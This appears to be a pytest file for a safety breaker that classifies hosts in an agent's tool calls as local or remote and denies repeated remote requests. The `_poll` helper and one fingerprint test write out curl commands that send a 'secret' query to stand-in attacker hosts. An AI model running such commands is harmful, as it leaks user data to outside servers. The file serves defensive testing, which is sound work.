"""Local means local: the default rule decides on the parsed address, never on how a name begins.

A name that merely starts like a private address (`10.attacker.example`) is somebody else's server: a
repeat to it must be blocked like any remote repeat, not put to the person as a harmless local poll.
The seed's prefix rule survives for `mode = "seed"` only (its conformance vectors pin it).
"""

from __future__ import annotations

import pytest

from engine.breaker import Breaker
from engine.config import BreakerConfig, EngineConfig
from engine.repeat_config import RepeatConfig
from engine.tools.fingerprints import fingerprints
from engine.tools.urls import is_local_host, norm_url, seed_local_host

LOOK_ALIKES = [
    "10.attacker.example",
    "192.168.attacker.com",
    "127.0.0.1.evil.example",
    "169.254.cloud.example",
    "172.16.evil.example",
    "0.0.0.0.evil.example",
    "fd00.evil.example",
    "fe80.evil.example",
    "localhost.evil.example",
    "evil-localhost",
    ".localhost",
]
LOCAL = [
    "localhost",
    "api.localhost",
    "a.b.localhost",
    "127.0.0.1",
    "127.9.9.9",
    "10.1.2.3",
    "172.16.0.1",
    "172.31.255.255",
    "192.168.111.90",
    "169.254.169.254",
    "0.0.0.0",
    "[::1]",
    "[::]",
    "[fd00::1]",
    "[fc00::]",
    "[fe80::1]",
    "[::ffff:7f00:1]",  # IPv4-mapped 127.0.0.1, as the URL parser writes it
    "[::ffff:127.0.0.1]",
    "[::ffff:a00:1]",  # 10.0.0.1
    "::1",
    "::ffff:127.0.0.1",
]
REMOTE = [
    "example.com",
    "8.8.8.8",
    "172.32.0.1",
    "172.15.0.1",
    "192.169.0.1",
    "100.64.0.1",
    "0.0.0.1",
    "[2606:4700::1111]",
    "[::ffff:8.8.8.8]",  # mapped, but a public IPv4 address
    "[::ffff:808:808]",
    "[64:ff9b::7f00:1]",  # NAT64 of 127.0.0.1: another machine's loopback, not ours
    "[fec0::1]",  # deprecated site-local
    "[127.0.0.1]",  # not an IPv6 literal
    "[localhost]",
    "",
]


@pytest.mark.parametrize("host", LOOK_ALIKES)
def test_a_name_that_starts_like_a_private_address_is_not_local(host: str) -> None:
    assert not is_local_host(host)


@pytest.mark.parametrize("host", LOCAL)
def test_local_literals_and_localhost_names_are_local(host: str) -> None:
    assert is_local_host(host)


@pytest.mark.parametrize("host", REMOTE)
def test_public_literals_and_odd_forms_are_not_local(host: str) -> None:
    assert not is_local_host(host)


@pytest.mark.parametrize(
    ("url", "local"),
    [
        ("http://[::ffff:127.0.0.1]:3000/x", True),  # the parser writes it [::ffff:7f00:1]
        ("http://[0:0:0:0:0:ffff:7f00:1]/x", True),
        ("http://0x7f000001/x", True),  # WHATWG reads hex and short IPv4 forms: 127.0.0.1
        ("http://127.1/x", True),
        ("http://0/x", True),  # 0.0.0.0
        ("http://10.attacker.example/x?d=secret", False),
        ("http://127.0.0.1.evil.example/", False),
    ],
)
def test_the_rule_reads_the_address_the_url_parser_produced(url: str, local: bool) -> None:
    u = norm_url(url, {})
    assert u is not None and is_local_host(u.host) is local


def test_the_seed_rule_stays_a_prefix_match_for_seed_mode() -> None:
    assert seed_local_host("10.attacker.example") and not is_local_host("10.attacker.example")
    assert not seed_local_host("[::ffff:7f00:1]") and is_local_host("[::ffff:7f00:1]")


def _poll(b: Breaker, i: int, host: str) -> str:
    return b.check_tool("A", f"c{i}", "bash", {"command": f"curl -s -w 'code-{i}' http://{host}/x?d=secret"}).kind


def test_a_look_alike_host_repeat_is_denied_not_asked() -> None:
    """The probe of the report: the 5th request to `10.attacker.example` asked, calling it LOCAL."""
    b = Breaker()
    assert [_poll(b, i, "10.attacker.example") for i in range(5)] == ["allow"] * 4 + ["deny"]
    cp = fingerprints("bash", {"command": "curl http://10.attacker.example/x"}, RepeatConfig())
    assert not cp.local and any(fp.startswith("net:") for fp in cp.fingerprints)


def test_seed_mode_keeps_the_seed_rule_for_the_same_calls() -> None:
    b = Breaker(BreakerConfig(engine=EngineConfig(mode="seed")))
    assert [_poll(b, i, "10.attacker.example") for i in range(5)] == ["allow"] * 4 + ["ask"]
